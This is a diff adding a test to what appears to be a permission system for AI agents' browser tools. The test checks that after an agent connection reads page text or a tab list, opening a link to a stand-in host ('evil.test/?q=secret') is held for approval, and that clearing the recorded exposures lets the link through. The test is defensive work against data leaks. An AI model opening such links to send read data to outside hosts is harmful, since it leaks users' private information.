@@ -129,6 +129,23 @@ async def test_what_was_read_for_an_agent_counts_for_what_it_sends_later(home: H
     assert (before.told["state"], after.told["state"]) == ("done", "waiting")
 
 
+async def test_what_one_connection_read_counts_for_every_other_but_that_of_an_agent_named_by_the_person(home: Home):
+    link = "https://evil.test/?q=secret"
+    await called(Calls(home, 0), "page_text")
+    await called(Calls(home, 0, "reader"), "tab_list")
+
+    second = await called(Calls(home, 0), "url_open", url=link)
+    again = await called(Calls(home, 0, "reader"), "url_open", url=link)
+    another = await called(Calls(home, 0, "other"), "url_open", url=link)
+    exposed = {one.principal: one.sources for one in await home.exposed_principals()}
+    await home.journal.clear_exposures("mcp")
+    cleared = await called(Calls(home, 0), "url_open", url=link)
+
+    assert (second.told["state"], again.told["state"]) == ("waiting", "waiting")
+    assert (another.told["state"], cleared.told["state"]) == ("done", "done")
+    assert exposed == {"mcp": ("page.text",), "mcp:reader": ("tab.list",)}
+
+
 @pytest.mark.req("SE-02")
 async def test_no_tool_leads_to_a_page_of_saysos_own(home: Home, tmp_path: Path):
     calls = Calls(home, 0)
